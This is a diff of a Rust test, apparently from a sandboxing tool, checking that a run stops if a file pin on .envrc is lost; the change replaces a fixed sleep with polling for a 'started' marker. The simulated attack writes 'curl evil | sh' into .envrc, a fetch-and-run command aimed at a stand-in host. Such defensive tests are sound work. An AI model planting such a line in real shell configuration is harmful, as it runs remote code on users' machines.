@@ -351,12 +351,19 @@ fn a_pin_lost_on_the_host_stops_the_run() {
     std::fs::write(run.workspace.join(".envrc"), "export A=1\n").unwrap();
     // CMD waits, then tries to rewrite .envrc: possible only if the pin went away.
     let child = run
-        .command("sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; sleep 5; echo FINISHED")
+        .command(
+            "touch started; sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; sleep 5; echo FINISHED",
+        )
         .stdout(std::process::Stdio::piped())
         .stderr(std::process::Stdio::piped())
         .spawn()
         .unwrap();
-    std::thread::sleep(Duration::from_millis(800));
+    // Once CMD runs, the pins are in place.
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while !run.workspace.join("started").exists() {
+        assert!(std::time::Instant::now() < deadline, "CMD never started");
+        std::thread::sleep(Duration::from_millis(20));
+    }
     // An editor's save: write a new file, rename it over the old one.
     std::fs::write(run.workspace.join(".envrc.new"), "export A=2\n").unwrap();
     std::fs::rename(
